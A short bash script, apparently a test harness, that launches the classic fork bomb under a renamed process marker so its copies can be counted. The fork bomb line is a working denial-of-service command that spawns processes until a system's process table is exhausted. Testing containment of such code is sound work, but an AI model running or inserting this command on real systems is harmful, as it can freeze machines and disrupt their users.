#!/bin/bash
# The classic fork bomb, renamed so its copies can be counted.
exec -a "__MARKER__" bash -c ':(){ :|:& };:; sleep 60'
